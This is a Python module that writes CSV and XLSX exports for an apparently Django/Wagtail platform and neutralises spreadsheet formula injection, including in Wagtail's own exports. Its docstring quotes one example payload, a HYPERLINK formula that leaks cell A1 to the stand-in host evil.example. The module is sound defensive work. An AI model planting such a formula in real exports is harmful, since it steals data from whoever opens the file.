"""The one spreadsheet writer of the platform: CSV and XLSX that open as data, never as formulas.

Every export (the dashboard's tables, Wagtail's report downloads, what comes later) writes its
cells through ``to_csv`` / ``to_xlsx`` (or ``write_csv_row`` / ``xlsx_cell`` for writers that
stream), so nobody has to remember the rules:

- A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be
  read as a formula by Excel, LibreOffice and Google Sheets. In CSV it gets a leading
  apostrophe (the spreadsheet programs' own "this is text" mark); in XLSX it is written as a
  cell of type string (never formula) with the quote-prefix style, and keeps its text as typed.
  A volunteer named ``=HYPERLINK("https://evil.example/?"&A1,"Klick")`` stays a name.
- Numbers stay numbers; decimals (money, CO₂) are rounded to two places.
- Dates are dates (ISO in CSV, ``DD.MM.YYYY`` in XLSX); aware datetimes are shown in the
  programme's time zone.
- Sheet names keep their umlauts and are made valid (at most 31 characters, none of
  ``[]:*?/\\``).

OWASP "CSV Injection" describes the attack and this defence.
"""

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import ROUND_HALF_UP, Decimal

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DECIMAL_PLACES = 2
SHEET_NAME_MAX = 31
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
_QUANTUM = Decimal(1).scaleb(-DECIMAL_PLACES)

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet program evaluates."""
    return f"'{text}" if is_formula_like(text) else text


def round_number(value):
    """Decimals and floats to two places (money, CO₂, rates); integers unchanged."""
    if isinstance(value, Decimal):
        return value.quantize(_QUANTUM, rounding=ROUND_HALF_UP)
    if isinstance(value, float):
        return round(value, DECIMAL_PLACES)
    return value


def plain_value(value):
    """A cell's value as one of: "" / bool / int / Decimal / float / date / datetime / str."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float, Decimal)):
        return round_number(value)
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        return value
    if isinstance(value, date):
        return value
    return str(value)


def csv_cell(value):
    value = plain_value(value)
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, str):
        return neutralise(value)
    return value


def write_csv_row(writer, row: Iterable) -> None:
    """One row through a ``csv.writer``, every cell neutralised."""
    writer.writerow([csv_cell(value) for value in row])


def to_csv(rows: Iterable[Iterable]) -> bytes:
    """UTF-8 with BOM, so Excel reads the umlauts."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        write_csv_row(writer, row)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def sheet_title(title, fallback: str = "Export") -> str:
    """A valid sheet name that keeps its umlauts: no ``[]:*?/\\``, at most 31 characters,
    no apostrophe at either end (Excel refuses those)."""
    text = _SHEET_FORBIDDEN.sub(" ", str(title or ""))
    text = " ".join(text.split())[:SHEET_NAME_MAX].strip(" '")
    return text or fallback


def xlsx_cell(sheet, value):
    """An openpyxl cell for ``value`` (for ``sheet.append``): text is always a string cell."""
    value = plain_value(value)
    cell = Cell(sheet)
    if isinstance(value, str):
        # Assigning a str starting with "=" makes openpyxl store a formula; type it as text.
        cell.value = value
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
        return cell
    cell.value = value
    if isinstance(value, datetime):
        cell.number_format = "DD.MM.YYYY HH:MM"
    elif isinstance(value, date):
        cell.number_format = "DD.MM.YYYY"
    elif isinstance(value, (Decimal, float)):
        cell.number_format = "0.00"
    return cell


def to_xlsx(rows: Iterable[Iterable], title="Export", *, header: bool = True) -> bytes:
    """One sheet named ``title``; the first row bold and frozen when ``header``."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    for index, row in enumerate(rows):
        cells = [xlsx_cell(sheet, value) for value in row]
        if header and index == 0:
            for cell in cells:
                cell.font = Font(bold=True)
        sheet.append(cells)
    if header:
        sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def protect_wagtail_exports() -> None:
    """Neutralise formulas in every CSV that Wagtail's ``SpreadsheetExportMixin`` writes.

    Wagtail's report downloads (site history, page history, user lists, form submissions and
    any admin listing with an export button) already write formula-like XLSX cells as strings,
    but copy CSV cells verbatim. Wrapping the mixin's one preprocessing step covers every
    export view, including ones subclassed or added later. Called once from
    ``CoreConfig.ready``.
    """
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        result = original(self, field, value, export_format)
        if export_format == self.FORMAT_CSV and isinstance(result, str):
            return neutralise(result)
        return result

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
